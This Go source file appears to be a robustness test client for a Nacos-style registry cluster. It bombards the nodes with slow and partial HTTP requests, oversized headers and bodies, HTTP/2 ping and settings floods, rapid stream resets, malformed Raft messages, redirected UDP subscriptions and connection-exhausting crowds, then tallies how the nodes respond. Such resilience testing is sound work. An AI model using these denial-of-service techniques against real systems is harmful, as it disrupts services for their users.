// Command hostile is a client that means harm to the nodes of a registry, at all their ports, while others use them: it says half of
// what it should, far too much, or what means nothing, and stays. It ends after a while and prints how often it did what, and how
// often it was cut off.
package main

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/url"
	"os"
	"strings"
	"sync"
	"time"
)

// Nodes' ports, counted from that of their HTTP API.
const (
	http    = 0
	sdk     = 1000
	cluster = 1001
	raft    = -1000
)

const (
	// patience is how long it waits to be cut off.
	patience = 8 * time.Second
	// pause is how long it rests between two deeds of a kind.
	pause = time.Second
	// crowd is how many connections it wants at a port at once.
	crowd = 120
)

// deed is something that it does again and again, each time over a connection of its own.
type deed struct {
	name  string
	ports []int
	does  func(net.Conn) error
	// stays says that a node may well bear it for longer than patience.
	stays bool
}

// deeds are what it does. When they are done they wait to be cut off.
var deeds = []deed{
	{"half a request line", []int{http}, say("POST /nacos/v1/ns/inst"), false},
	{"half a body", []int{http}, say(request("POST", "/nacos/v1/ns/instance?"+instance(), 1000) + "ip=10."), true},
	{"a giant header", []int{http}, say("GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("x", 200_000) + "\r\n\r\n"), false},
	{"a giant body", []int{http}, flood(request("POST", "/nacos/v3/admin/ns/instance", 1<<30), 3<<20), false},
	{"a slow header", []int{http}, drip("GET / HTTP/1.1\r\nHost: x\r\nX: "), false},
	{"a slow body", []int{http}, drip(request("PUT", "/nacos/v2/ns/instance", 1000)), true},
	{"a name as long as it can be", []int{http}, say(request("POST", "/nacos/v1/ns/instance?serviceName="+strings.Repeat("n", 30_000)+"&ip=1.1.1.1&port=80", 0)), true},
	{"metadata that nests", []int{http}, say(request("POST", "/nacos/v1/ns/instance?"+instance()+"&metadata="+strings.Repeat("%7B%22a%22:", 3000), 0)), true},
	{"a subscriber with a name nobody has", []int{http}, subscribe("nobody.example"), true},
	{"a subscriber who is somebody else", []int{http}, subscribe("10.0.0.2"), true},
	{"garbage", []int{http, sdk, cluster, raft}, noise, false},
	{"nothing", []int{http, sdk, cluster, raft}, say(""), false},
	{"half a preface", []int{sdk, cluster}, say(preface[:9]), false},
	{"settings over and over", []int{sdk, cluster}, say(preface + strings.Repeat(frame(4, 0, 0, ""), 2000)), true},
	{"pings over and over", []int{sdk, cluster}, say(preface + frame(4, 0, 0, "") + strings.Repeat(frame(6, 0, 0, "12345678"), 2000)), true},
	{"streams that are reset", []int{sdk, cluster}, say(preface + frame(4, 0, 0, "") + resets(500)), true},
	{"headers without an end", []int{sdk, cluster}, say(preface + frame(4, 0, 0, "") + frame(1, 0, 1, "\x82") + strings.Repeat(frame(9, 0, 1, strings.Repeat("x", 1000)), 100)), false},
	{"headers that are none", []int{sdk, cluster}, say(preface + frame(4, 0, 0, "") + frame(1, 4, 1, "\xff\xff\xff\xff\xff")), false},
	{"a frame longer than allowed", []int{sdk, cluster}, say(preface + "\xff\xff\xff\x00\x00\x00\x00\x00\x01"), false},
	{"half a vote", []int{raft}, say("\x01\x82\xa4Term"), false},
	{"a leader's entries", []int{raft}, say("\x00\x84\xa4Term\xcf\x7f\xff\xff\xff\xff\xff\xff\xff\xa2ID\xa61.2.3.\xa7Entries\xdd\xff\xff\xff\xff"), false},
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// frame is one of HTTP/2's (RFC 9113, 4.1).
func frame(kind, flags byte, stream uint32, payload string) string {
	head := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return string(binary.BigEndian.AppendUint32(head, stream)) + payload
}

// resets opens streams and takes them back at once.
func resets(count int) string {
	var b strings.Builder
	for i := range count {
		stream := uint32(2*i + 1)
		b.WriteString(frame(1, 4, stream, "\x83\x86\x44\x08/Request\x41\x01x"))
		b.WriteString(frame(3, 0, stream, "\x00\x00\x00\x08"))
	}
	return b.String()
}

// request is the head of one of HTTP.
func request(method, path string, length int) string {
	return fmt.Sprintf("%s %s HTTP/1.1\r\nHost: x\r\nUser-Agent: Nacos-Java-Client:v1.4.8\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n",
		method, path, length)
}

func instance() string {
	return url.Values{"serviceName": {"hostile"}, "ip": {"10.6.6.6"}, "port": {"666"}, "ephemeral": {"false"}}.Encode()
}

// say says something, and nothing more.
func say(text string) func(net.Conn) error {
	return func(connection net.Conn) error {
		_, err := io.WriteString(connection, text)
		return err
	}
}

// flood says something and then as much as is taken, up to a limit.
func flood(text string, limit int) func(net.Conn) error {
	return func(connection net.Conn) error {
		if _, err := io.WriteString(connection, text); err != nil {
			return err
		}
		piece := make([]byte, 1<<15)
		for sent := 0; sent < limit; sent += len(piece) {
			if _, err := connection.Write(piece); err != nil {
				return err
			}
		}
		return nil
	}
}

// drip says something, and then a byte now and then.
func drip(text string) func(net.Conn) error {
	return func(connection net.Conn) error {
		_, err := io.WriteString(connection, text)
		for ; err == nil; _, err = io.WriteString(connection, "x") {
			time.Sleep(pause)
		}
		return err
	}
}

// subscribe has a node push to somebody.
func subscribe(ip string) func(net.Conn) error {
	return func(connection net.Conn) error {
		path := fmt.Sprintf("/nacos/v1/ns/instance/list?serviceName=s%d&clientIP=%s&udpPort=%d", rand.IntN(1000), ip, 1+rand.IntN(65535))
		_, err := io.WriteString(connection, request("GET", path, 0))
		return err
	}
}

// noise says anything.
func noise(connection net.Conn) error {
	anything := make([]byte, 1+rand.IntN(3000))
	for i := range anything {
		anything[i] = byte(rand.Uint32())
	}
	_, err := connection.Write(anything)
	return err
}

// tally is how often it did something, how often it was cut off, how often it was not though it should have been, and how often nobody took
// it in.
type tally struct{ Done, CutOff, Borne, Refused int }

// culprit does all this to some nodes until a time.
type culprit struct {
	nodes []string
	until time.Time

	mu      sync.Mutex
	tallies map[string]*tally
}

func main() {
	nodes := flag.String("nodes", "", "`ip,ip,…`")
	length := flag.Duration("for", 15*time.Second, "how `long` it goes on")
	flag.Parse()
	time.Sleep(3 * time.Second) // the nodes start
	c := &culprit{nodes: strings.Split(*nodes, ","), until: time.Now().Add(*length), tallies: map[string]*tally{}}
	var wait sync.WaitGroup
	for i, d := range deeds {
		for _, port := range d.ports {
			wait.Go(func() { c.persist(d, port, i) })
		}
	}
	for _, port := range []int{http, sdk, cluster, raft} {
		wait.Go(func() { c.gather(port) })
	}
	wait.Go(c.acknowledge)
	wait.Wait()
	if err := json.NewEncoder(os.Stdout).Encode(c.tallies); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func (c *culprit) address(node string, port int) string {
	return net.JoinHostPort(node, fmt.Sprint(8848+port))
}

// note counts.
func (c *culprit) note(what string, port int, change func(*tally)) {
	key := fmt.Sprintf("%s, port %d", what, 8848+port)
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.tallies[key] == nil {
		c.tallies[key] = &tally{}
	}
	change(c.tallies[key])
}

// persist does a deed to one node after the other, from one of them on.
func (c *culprit) persist(d deed, port, first int) {
	for turn := first; time.Now().Before(c.until); turn++ {
		connection, err := net.DialTimeout("tcp", c.address(c.nodes[turn%len(c.nodes)], port), pause)
		if err != nil {
			c.note(d.name, port, func(t *tally) { t.Refused++ })
			time.Sleep(pause)
			continue
		}
		go func() {
			defer connection.Close()
			_ = connection.SetDeadline(time.Now().Add(patience))
			err := d.does(connection)
			if err == nil {
				_, err = io.Copy(io.Discard, connection)
			}
			var timeout net.Error
			cutOff := err == nil || !errors.As(err, &timeout) || !timeout.Timeout()
			c.note(d.name, port, func(t *tally) {
				t.Done++
				switch {
				case cutOff:
					t.CutOff++
				case !d.stays:
					t.Borne++
				}
			})
		}()
		time.Sleep(pause)
	}
	time.Sleep(patience)
}

// gather comes with a crowd towards the end, which says nothing, and takes all the room that there is for its address.
func (c *culprit) gather(port int) {
	time.Sleep(time.Until(c.until) * 3 / 4)
	for _, node := range c.nodes {
		for range crowd {
			connection, err := net.DialTimeout("tcp", c.address(node, port), pause)
			if err != nil {
				c.note("a crowd", port, func(t *tally) { t.Refused++ })
				continue
			}
			go func() {
				defer connection.Close()
				_ = connection.SetReadDeadline(c.until)
				_, err := io.Copy(io.Discard, connection)
				c.note("a crowd", port, func(t *tally) {
					t.Done++
					if err == nil {
						t.CutOff++
					}
				})
			}()
		}
	}
}

// acknowledge subscribes for itself and answers pushes with garbage.
func (c *culprit) acknowledge() {
	socket, err := net.ListenPacket("udp", ":6000")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	defer socket.Close()
	_ = socket.SetDeadline(c.until)
	for _, node := range c.nodes {
		connection, err := net.DialTimeout("tcp", c.address(node, http), pause)
		if err != nil {
			continue
		}
		_, _ = io.WriteString(connection, request("GET", "/nacos/v1/ns/instance/list?serviceName=hostile&udpPort=6000", 0))
		defer connection.Close()
	}
	content := make([]byte, 1<<16)
	for {
		_, from, err := socket.ReadFrom(content)
		if err != nil {
			return
		}
		for _, answer := range []string{"", "[", `{"lastRefTime":"x"}`, `{"lastRefTime":-1}`, strings.Repeat("[", 9000)} {
			_, _ = socket.WriteTo([]byte(answer), from)
		}
		c.note("bad acknowledgements", 0, func(t *tally) { t.Done++ })
	}
}
